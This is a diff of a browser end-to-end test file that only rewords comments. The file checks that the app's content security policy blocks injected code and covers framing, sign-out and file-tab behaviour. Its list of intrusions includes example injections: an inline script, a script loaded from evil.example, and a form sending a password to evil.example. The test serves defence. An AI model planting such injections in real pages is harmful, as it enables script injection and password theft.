@@ -3,7 +3,7 @@ import { expect, press, signIn, test } from './fixtures'
 import { PHOTO } from './flows'
 import { ROW } from './places'
 
-/** Attacks by injected code; each sets `window.stolen` if it runs. */
+/** Code injections that the content security policy must block; each sets `window.stolen` if it runs. */
 const INTRUSIONS: readonly [what: string, directive: string, run: () => void][] = [
   ['a script in the page', 'script-src-elem', () => insert('script', { textContent: 'window.stolen = 1' })],
   ['a script from elsewhere', 'script-src-elem', () => insert('script', { src: 'https://evil.example/x.js' })],
@@ -22,7 +22,7 @@ const INTRUSIONS: readonly [what: string, directive: string, run: () => void][] 
   ['a form that sends a password away', 'form-action', () => insert('form', { action: 'https://evil.example/' }).submit()],
 ]
 
-/** Present in the page only: {@link INTRUSIONS} run there. */
+/** Exists only in the page, where {@link INTRUSIONS} run. */
 declare function insert<Tag extends keyof HTMLElementTagNameMap>(
   tag: Tag,
   properties: Partial<HTMLElementTagNameMap[Tag]>,
@@ -34,7 +34,7 @@ test('[FAULT-48] the policy is enforced: nothing that is put into the page runs,
   consoleErrors,
 }) => {
   const left: string[] = []
-  // What the policy stops never gets as far as the network.
+  // Requests that the policy blocks never reach this handler.
   await page.route(/evil\.example/, (route) => {
     left.push(route.request().url())
     return route.abort()
@@ -49,13 +49,13 @@ test('[FAULT-48] the policy is enforced: nothing that is put into the page runs,
     })
   })
   for (const [what, directive, run] of INTRUSIONS) {
-    // By way of a timer: what the debugger itself evaluates is beyond the policy.
+    // Run by a timer, because the policy does not apply to what the debugger itself evaluates.
     const stopped = page.evaluate(async (source) => {
       const violation = new Promise<string>((resolve) => {
         document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
         window.setTimeout(() => resolve('nothing'), 2_000)
       })
-      // The functions of the list arrive here as text; the debugger may evaluate it.
+      // The functions of the list arrive as text; eval is allowed for the debugger.
       window.setTimeout((0, eval)(`(${source})`) as () => void)
       return violation
     }, run.toString())
@@ -80,7 +80,7 @@ test('the app may not be framed by another page, nor by itself', async ({ page, 
 
 test('after a sign-out nothing that was seen comes back: not by the Back button, not for the next person', async ({ page }) => {
   await signIn(page)
-  // So that there is a page of the app to go back to.
+  // Gives the history a page of the app to go back to.
   await page.goto('/')
   await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible()
   await page.goto('/shipments')
@@ -143,7 +143,7 @@ test('[CONST-04] [FAULT-51] a file opens in a tab that cannot reach back into th
       const { releases, viewedAt } = window as unknown as { releases: number[]; viewedAt: number }
       return releases[0] === undefined ? null : releases[0] - viewedAt
     })
-  // 6 s after the window has loaded; a window of which nobody hears keeps the address for a minute.
+  // The address is revoked 6 s after the window has loaded; if the app cannot tell whether it has loaded, after a minute.
   await expect.poll(releasedAfter).toBeGreaterThan(6_000)
   expect(await releasedAfter()).toBeLessThan(30_000)
   await tab.close()
